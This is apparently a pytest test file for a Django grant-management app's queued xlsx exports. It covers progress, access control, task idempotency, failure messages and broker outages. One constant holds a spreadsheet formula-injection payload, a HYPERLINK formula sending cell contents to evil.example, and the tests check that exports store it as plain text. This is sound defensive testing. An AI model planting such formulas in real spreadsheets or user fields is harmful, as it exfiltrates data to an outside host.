"""Every xlsx export is one job (consortia.export_jobs): the button queues it, a worker builds it
with progress, the officer who asked downloads it. Each kind is tried from the outside: the rows
are the dashboard's numbers, user text stays text, nobody else sees the file, a redelivered task
builds nothing more, a failure is on the page, and a broker that is down costs no 500."""

from __future__ import annotations

import datetime as dt
import importlib
import logging
import time
from types import SimpleNamespace

import pytest
from django.apps import apps as django_apps
from django.core.files.storage import default_storage
from django.utils import timezone
from django_celery_beat.models import PeriodicTask

from awards import services as award_services
from consortia import export_jobs
from consortia.models import Consortium, Export
from consortia.tasks import build_export, requeue_stale_exports
from evaluations import services as evaluation_services
from monitoring import services as monitoring_services
from monitoring.models import Milestone
from programs.models import Call
from tests.awards.helpers import first_tranche, make_award
from tests.brokers import closed_port, use_broker
from tests.export_helpers import download, rows, start_export
from tests.factories import (
    ApplicationFactory,
    UserFactory,
    assign,
    complete_application,
    make_panel,
    officer_of,
    seat,
    under_review,
)

pytestmark = pytest.mark.django_db

ATTACK = '=HYPERLINK("http://evil.example/?"&A1,"click")'
AWARDS = "/admin/awards/award/dashboard/"
MONITORING = "/admin/monitoring/milestone/dashboard/"


def assert_text(cell) -> None:
    """Written as the text it is, never as a formula (config.xlsx's quote prefix)."""
    assert cell.value == ATTACK and cell.data_type == "s" and cell.quotePrefix


def cells_with_attack(book) -> list:
    return [c for ws in book.worksheets for row in ws.iter_rows() for c in row if c.value == ATTACK]


# --- one case per kind: whose data, which button, with a consortium or call named like a formula --


def applications_case():
    app = complete_application(title="경북 과제")
    Consortium.objects.filter(pk=app.consortium_id).update(name=ATTACK)
    return SimpleNamespace(
        officer=officer_of(app.call.program), url="/admin/consortia/application/export/", data={}, app=app
    )


def awards_case():
    award = make_award()
    Consortium.objects.filter(pk=award.consortium_id).update(name=ATTACK)
    Call.objects.filter(pk=award.call_id).update(title=ATTACK)
    officer = award.program.officers.get()
    # A pending request puts the award on the "needing attention" sheet, with its consortium.
    award_services.request_disbursement(
        actor=officer, tranche_id=first_tranche(award).pk, amount_krw=70_000_000
    )
    return SimpleNamespace(officer=officer, url=AWARDS + "export/", data={}, award=award)


def monitoring_case(capture):
    award = make_award()
    Milestone.objects.filter(award=award, kind="annual", sequence=1).update(
        due_on=timezone.localdate() - dt.timedelta(days=3), title="연차 보고"
    )
    Consortium.objects.filter(pk=award.consortium_id).update(name=ATTACK)
    officer = award.program.officers.get()
    with capture(execute=True):
        report = monitoring_services.report_kpi(
            actor=award.consortium.contacts.get(),
            award_id=award.pk,
            indicator="researchers",
            year=1,
            value=12,
        )
        monitoring_services.validate_kpi(actor=officer, report_id=report.pk)
    return SimpleNamespace(officer=officer, url=MONITORING + "export/", data={}, award=award)


def panel_case():
    panel = make_panel()
    officer = officer_of(panel.call.program)
    apps = [
        under_review(ApplicationFactory(call=panel.call, track=panel.track, title=title))
        for title in (ATTACK, "수소 실증", "반도체 소재")
    ]
    reviewer = seat(panel)
    for app, points in zip(apps, (25, 20, 15), strict=True):
        evaluation_services.save_score(
            actor=reviewer.user,
            assignment_id=assign(panel, app, reviewer).pk,
            points={"planning": points, "fit": 18, "organisation": 15, "impact": 22},
            submit=True,
        )
    evaluation_services.close_panel(actor=officer, panel_id=panel.pk)
    return SimpleNamespace(
        officer=officer, url=f"/admin/evaluations/panel/{panel.pk}/export/", data={}, panel=panel, apps=apps
    )


KINDS = ["applications", "awards_dashboard", "monitoring_dashboard", "panel_results"]


@pytest.fixture(params=KINDS)
def case(request, django_capture_on_commit_callbacks):
    kind = request.param
    made = {
        "applications": applications_case,
        "awards_dashboard": awards_case,
        "monitoring_dashboard": lambda: monitoring_case(django_capture_on_commit_callbacks),
        "panel_results": panel_case,
    }[kind]()
    made.kind = kind
    return made


# --- every kind ----------------------------------------------------------------------------------


def test_officer_gets_the_file_with_progress_at_100_and_user_text_as_text(
    client, case, django_capture_on_commit_callbacks
):
    client.force_login(case.officer)
    status_url = start_export(client, django_capture_on_commit_callbacks, case.url, case.data)
    export = Export.objects.get()
    assert (export.kind, export.requested_by, export.status) == (case.kind, case.officer, "done")
    assert export.rows_done == export.rows_total > 0 and export.percent == 100
    fragment = client.get(status_url, HTTP_HX_REQUEST="true").content.decode()
    assert 'value="100"' in fragment and "hx-trigger" not in fragment  # polling stops
    book = download(client, status_url)
    attacks = cells_with_attack(book)
    assert attacks, "the formula-like name is in the workbook"
    for cell in attacks:
        assert_text(cell)


def test_nobody_else_sees_the_export(client, case, django_capture_on_commit_callbacks):
    client.force_login(case.officer)
    status_url = start_export(client, django_capture_on_commit_callbacks, case.url, case.data)
    export = Export.objects.get()
    program = export.requested_by.programs_as_officer.get()
    # Another officer of the same program, one of another program, staff: 404, not 403.
    for user in (
        officer_of(program),
        officer_of(make_panel().call.program),
        UserFactory(is_staff=True),
    ):  # and staff of no program
        client.force_login(user)
        assert client.get(status_url).status_code == 404
        assert client.get(status_url, HTTP_HX_REQUEST="true").status_code == 404
        assert client.get(status_url + "download/").status_code == 404
    client.force_login(UserFactory())  # not staff: the admin's login page
    assert client.get(status_url + "download/").status_code == 302
    client.force_login(case.officer)
    assert client.get(f"/admin/consortia/export/{export.pk + 1}/").status_code == 404  # guessed id


def test_the_task_run_twice_builds_once(client, case, django_capture_on_commit_callbacks):
    client.force_login(case.officer)
    with django_capture_on_commit_callbacks(execute=False) as queued:  # the broker holds the message
        response = client.post(case.url, case.data)
    assert response.status_code == 302 and len(queued) == 1
    export = Export.objects.get()
    assert export.status == "queued" and export.percent == 0
    page = client.get(response["Location"]).content.decode()
    assert 'hx-trigger="every 1s"' in page and "export-download" not in page
    assert client.get(response["Location"] + "download/").status_code == 404  # not ready
    before = files_of(export.pk)
    queued[0]()  # the worker's run
    built = Export.objects.get()
    assert built.status == "done"
    build_export.apply(args=[export.pk])  # acks_late: the message delivered again
    assert requeue_stale_exports.apply().get() == 0  # and the sweep finds nothing owed
    again = Export.objects.get()
    assert (again.file.name, again.finished_at, again.rows_done) == (
        built.file.name,
        built.finished_at,
        built.rows_done,
    )
    assert files_of(export.pk) - before == {built.file.name}  # one build, one file


def files_of(export_id: int) -> set[str]:
    # The in-memory storage outlives a test's rolled-back ids: compare before and after.
    if not default_storage.exists(f"exports/{export_id}"):
        return set()
    return {f"exports/{export_id}/{name}" for name in default_storage.listdir(f"exports/{export_id}")[1]}


def test_an_officer_taken_off_the_program_gets_a_failed_export_with_its_reason(
    client, case, django_capture_on_commit_callbacks
):
    client.force_login(case.officer)
    with django_capture_on_commit_callbacks(execute=False) as queued:
        status_url = client.post(case.url, case.data)["Location"]
    programs = list(case.officer.programs_as_officer.all())
    case.officer.programs_as_officer.clear()  # between the click and the worker
    queued[0]()
    export = Export.objects.get()
    assert (export.status, export.error, export.file.name) == (
        "failed",
        "더 이상 이 자료를 내려받을 수 없습니다.",
        "",
    )
    fragment = client.get(status_url, HTTP_HX_REQUEST="true").content.decode()
    assert "hx-trigger" not in fragment and 'data-testid="export-error"' in fragment
    assert "더 이상 이 자료를 내려받을 수 없습니다." in fragment
    assert client.get(status_url + "download/").status_code == 404
    case.officer.programs_as_officer.add(*programs)
    build_export.apply(args=[export.pk])  # a failed export is not built again by a redelivery
    assert Export.objects.get().status == "failed"  # the officer asks again, for a new one


# --- each kind's rows are the dashboard's numbers ---------------------------------------------


def test_awards_dashboard_export_is_the_dashboard_of_the_officers_programs(
    client, django_capture_on_commit_callbacks
):
    mine = awards_case()
    theirs = make_award()  # another program's award: on neither the dashboard nor the file
    client.force_login(mine.officer)
    data = client.get(AWARDS).context["data"]
    book = download(client, start_export(client, django_capture_on_commit_callbacks, mine.url))
    by_year, by_track, by_region, attention = book.worksheets
    money = ("awarded_krw", "disbursed_krw", "outstanding_krw")
    assert rows(by_year) == [(r["year"], *(r[k] for k in money)) for r in data["by_year"]]
    assert rows(by_track) == [(r["call"], r["track"], *(r[k] for k in money)) for r in data["by_track"]]
    assert rows(by_region) == [(r["region"], *(r[k] for k in money)) for r in data["by_region"]]
    assert sum(r[1] for r in rows(by_year)) == data["totals"]["awarded_krw"] > 0
    assert [r[:4] for r in rows(attention)] == [(mine.award.title, ATTACK, 0, True)]
    assert theirs.title not in {c for ws in book.worksheets for r in rows(ws) for c in r}
    assert by_year.cell(row=2, column=2).number_format == "#,##0"


def test_awards_dashboard_export_keeps_the_call_filter(client, django_capture_on_commit_callbacks):
    mine = awards_case()
    client.force_login(mine.officer)
    other_call = Call.objects.exclude(pk=mine.award.call_id).first() or make_panel().call
    status_url = start_export(client, django_capture_on_commit_callbacks, mine.url, {"call": other_call.pk})
    assert Export.objects.get().params == {"call_id": other_call.pk}
    assert all(rows(ws) == [] for ws in download(client, status_url).worksheets)
    assert f"?call={other_call.pk}" in client.get(status_url).content.decode()  # back to that view


def test_monitoring_export_is_the_dashboard_of_the_officers_programs(
    client, django_capture_on_commit_callbacks
):
    mine = monitoring_case(django_capture_on_commit_callbacks)
    client.force_login(mine.officer)
    page = client.get(MONITORING + "?indicator=researchers").context
    book = download(client, start_export(client, django_capture_on_commit_callbacks, mine.url))
    program_sheet = book.worksheets[3]  # the levels in KpiRollup.Level order: program last
    expected = [
        (r["subject"], r["year"], r["indicator"], r["actual"], r["target"], r["achievement_display"])
        for r in page["program_rows"]
    ]
    assert [(s, y, i, a, t, p) for s, y, i, _unit, a, t, p in rows(program_sheet)] == expected
    assert ("researchers", 12) in {(r[2], r[4]) for r in rows(program_sheet)}
    overdue = rows(book.worksheets[-1])
    assert [(r[0], r[1], r[2]) for r in overdue] == [
        (m.award.title, ATTACK, m.title) for m in page["overdue"]
    ]
    # Another program's officer: the same button, none of this program's rows.
    client.force_login(officer_of(make_panel().call.program))
    book = download(client, start_export(client, django_capture_on_commit_callbacks, mine.url))
    assert all(rows(ws) == [] for ws in book.worksheets)


def test_panel_results_export_is_the_panel_pages_ranking(client, django_capture_on_commit_callbacks):
    mine = panel_case()
    client.force_login(mine.officer)
    page = client.get(f"/admin/evaluations/panel/{mine.panel.pk}/change/").context
    book = download(client, start_export(client, django_capture_on_commit_callbacks, mine.url))
    got = [(r[0], r[1], r[3], r[8]) for r in rows(book.active)]
    assert got == [(r["app"].pk, r["app"].title, r["r"].rank, float(r["final"])) for r in page["rows"]]
    assert sorted(f for *_rest, f in got) == [70, 75, 80]  # 15, 20, 25 planning points + 55


def test_another_programs_officer_cannot_start_a_panel_export(client):
    mine = panel_case()
    client.force_login(officer_of(make_panel().call.program))
    assert client.post(mine.url).status_code == 404
    with pytest.raises(export_jobs.PermissionDenied):
        export_jobs.request_export(
            actor=officer_of(make_panel().call.program),
            kind="panel_results",
            params={"panel_id": mine.panel.pk},
        )
    assert not Export.objects.exists()


@pytest.mark.parametrize(
    "url", ["/admin/consortia/application/export/", AWARDS + "export/", MONITORING + "export/"]
)
def test_only_officers_start_exports_and_only_by_post(client, url):
    client.force_login(UserFactory(is_staff=True))  # staff, officer of nothing
    assert client.post(url).status_code == 403
    client.force_login(officer_of(make_panel().call.program))
    if url != "/admin/consortia/application/export/":
        assert client.get(url).status_code == 405  # a link or a prefetch starts nothing
    assert not Export.objects.exists()


def test_params_are_checked_against_the_kinds_schema():
    officer = officer_of(make_panel().call.program)
    for params in ({"call_id": True}, {"call_id": "3"}, {"program_id": 1}):
        with pytest.raises(export_jobs.ExportRefused):
            export_jobs.request_export(actor=officer, kind="awards_dashboard", params=params)
    with pytest.raises(export_jobs.ExportRefused):
        export_jobs.request_export(actor=officer, kind="everything")
    assert not Export.objects.exists()


# --- the broker down ---------------------------------------------------------------------------


def test_with_the_broker_down_the_button_answers_and_the_sweep_builds_it_later(
    client, caplog, django_capture_on_commit_callbacks
):
    made = awards_case()
    client.force_login(made.officer)
    # Publishing really runs (not eager) against a port that refuses connections.
    with (
        use_broker(f"redis://127.0.0.1:{closed_port()}/0"),
        caplog.at_level(logging.WARNING),
        django_capture_on_commit_callbacks(execute=True),
    ):
        started = time.monotonic()
        response = client.post(made.url)
        seconds = time.monotonic() - started
    assert response.status_code == 302 and seconds < 5, f"{seconds:.1f} s"
    assert "could not queue consortia.tasks.build_export" in caplog.text
    export = Export.objects.get()
    assert export.status == "queued"
    assert export_jobs.exports_to_requeue() == []  # its own task may still come
    later = timezone.now() + dt.timedelta(seconds=121)
    assert export_jobs.exports_to_requeue(now=later) == [export.pk]
    Export.objects.filter(pk=export.pk).update(created_at=timezone.now() - dt.timedelta(minutes=3))
    assert requeue_stale_exports.apply().get() == 1  # beat's run, the broker back (eager here)
    assert Export.objects.get().status == "done"
    assert requeue_stale_exports.apply().get() == 0


def test_a_dead_workers_export_is_built_again_after_its_lease(client, django_capture_on_commit_callbacks):
    made = applications_case()
    client.force_login(made.officer)
    with django_capture_on_commit_callbacks(execute=False):
        client.post(made.url)
    export = Export.objects.get()
    # Claimed by a worker that then died: left RUNNING.
    Export.objects.filter(pk=export.pk).update(status="running", started_at=timezone.now())
    build_export.apply(args=[export.pk])  # a live claim is not taken over
    assert Export.objects.get().status == "running"
    Export.objects.filter(pk=export.pk).update(
        started_at=timezone.now() - dt.timedelta(hours=1), created_at=timezone.now() - dt.timedelta(hours=1)
    )
    assert export_jobs.exports_to_requeue() == [export.pk]
    build_export.apply(args=[export.pk])
    assert Export.objects.get().status == "done"


def test_the_sweep_is_scheduled_once():
    seed = importlib.import_module("consortia.migrations.0009_exports_seed_requeue_schedule")
    PeriodicTask.objects.filter(name="requeue-stale-exports").delete()
    seed.seed(django_apps, None)
    seed.seed(django_apps, None)
    sweep = PeriodicTask.objects.get(name="requeue-stale-exports")
    assert (sweep.task, sweep.interval.every, sweep.enabled) == (
        "consortia.tasks.requeue_stale_exports",
        60,
        True,
    )


def test_the_progress_page_takes_a_fixed_number_of_queries(client, django_assert_max_num_queries):
    made = applications_case()
    client.force_login(made.officer)
    export = export_jobs.request_export(
        actor=made.officer, kind="applications", application_ids=[made.app.pk]
    )
    client.get(f"/admin/consortia/export/{export.pk}/")
    with django_assert_max_num_queries(8):
        assert client.get(f"/admin/consortia/export/{export.pk}/", HTTP_HX_REQUEST="true").status_code == 200


def test_administrators_list_every_export_and_officers_none(client, django_assert_max_num_queries):
    made = applications_case()
    for _ in range(3):
        export_jobs.request_export(actor=made.officer, kind="applications", application_ids=[made.app.pk])
    client.force_login(made.officer)
    assert client.get("/admin/consortia/export/").status_code == 403
    client.force_login(UserFactory(is_staff=True, is_superuser=True))
    with django_assert_max_num_queries(12):
        page = client.get("/admin/consortia/export/")
    assert page.status_code == 200 and len(page.context["cl"].result_list) == 3


def test_the_file_leaves_out_applications_of_a_program_the_officer_left(django_capture_on_commit_callbacks):
    """Scope is checked when the file is built: an officer taken off one of two programs between
    the click and the worker gets only the other program's rows."""
    from consortia.exports import request_application_export
    from tests.factories import ApplicationFactory, CallFactory, ProgramFactory, UserFactory

    officer = UserFactory(is_staff=True)
    kept, left = ProgramFactory(officers=[officer]), ProgramFactory(officers=[officer])
    a = ApplicationFactory(call=CallFactory(program=kept), title="남는 과제")
    b = ApplicationFactory(call=CallFactory(program=left), title="빠지는 과제")
    with django_capture_on_commit_callbacks(execute=False) as queued:
        export = request_application_export(actor=officer, application_ids=[a.pk, b.pk])
    left.officers.remove(officer)
    for callback in queued:
        callback()
    export.refresh_from_db()
    assert export.status == "done"
    import openpyxl

    with export.file.open("rb") as f:
        sheet = openpyxl.load_workbook(f).active
    assert [row[1] for row in rows(sheet)] == ["남는 과제"]


def test_the_progress_page_sits_in_the_section_the_export_came_from(
    client, django_capture_on_commit_callbacks
):
    mine = awards_case()
    client.force_login(mine.officer)
    status_url = start_export(client, django_capture_on_commit_callbacks, mine.url)
    assert client.get(status_url).context["opts"].label_lower == "awards.award"
